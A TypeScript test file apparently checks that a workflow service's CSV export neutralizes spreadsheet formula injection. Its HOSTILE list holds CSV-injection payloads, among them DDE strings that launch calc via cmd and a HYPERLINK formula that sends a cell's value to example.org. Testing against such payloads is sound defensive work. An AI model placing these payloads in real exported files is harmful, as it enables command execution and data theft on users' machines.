import assert from "node:assert/strict";
import { parseCsv } from "../../src/services/formats/read_csv.ts";
import { eventually } from "../support/time/eventually.ts";
import { openWebhookApp } from "../support/http/webhook_app.ts";

const HOSTILE = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\uff1d1+1",
  '=HYPERLINK("https://example.org/?"&A1,"open")',
  "--1",
  "-5-",
  "harmless;=1+1",
  'harmless;"=1+1',
];
const KEPT = ["-5", "+49", "-1.5e-3", "-1,234.50", "-5%", "a=b", "x@example.org", "", "2026-11-22"];

interface Written {
  objectKey: string;
}

async function write(formulas: string | undefined, rows: unknown[]) {
  await using server = await openWebhookApp();
  const user = await server.user();
  const workflowId = await user.publish({
    inputs: { rows: { type: "json" } },
    steps: [{
      id: "write",
      service: "files",
      action: "write",
      with: { name: "a.csv", rows: "${{ inputs.rows }}", ...formulas && { formulas } },
    }],
  });
  const started = await user.expect(202, `POST /workflows/${workflowId}/runs`, {
    inputs: { rows: JSON.parse(JSON.stringify(rows)) },
  });
  const output = await eventually(async () => {
    const run = await user.expect(200, `GET /runs/${started.runId}`);
    assert.notEqual(run.status, "failed", JSON.stringify(run.error));
    return run.steps[0].output as Written | null;
  });
  const key = encodeURIComponent(output.objectKey);
  const { text } = await user.ask(`GET /objects/download?objectKey=${key}`);
  return parseCsv(text);
}

/** A cell that a spreadsheet runs, whichever separator it goes by. */
function isRun(cell: string): boolean {
  return cell.split(/[;\t]/).some((part) => /^"?[=+\-@\t\r\n\uff1d]/.test(part)) &&
    !KEPT.includes(cell);
}

Deno.test("attack: no cell and no column of a neutralized CSV is a formula", async () => {
  const row = Object.fromEntries([...HOSTILE, ...KEPT].map((text, at) => [`c${at}`, text]));
  const columns = Object.fromEntries(HOSTILE.map((text) => [text, "x"]));
  const others = { "'=1+1": "first", number: -5, nothing: null, list: ["=1"], flag: true };
  const rows = await write("neutralize", [row, columns, others]);
  const cells = rows.flatMap((each) => [...Object.keys(each), ...Object.values(each).map(String)]);
  assert.deepEqual(cells.filter(isRun), []);
  for (const text of KEPT) assert.ok(cells.includes(text), text);
  const [, second, third] = rows;
  assert.equal(second?.["''=1+1"], "x", "it does not take the place of another column");
  assert.equal(third?.["'=1+1"], "first");
  assert.deepEqual([third?.number, third?.list, third?.flag], ["-5", '["=1"]', "true"]);
});

Deno.test("without the option cells are written as they are", async () => {
  for (const formulas of [undefined, "keep"]) {
    assert.deepEqual(await write(formulas, [{ "=a": "=1+1" }]), [{ "=a": "=1+1" }]);
  }
});
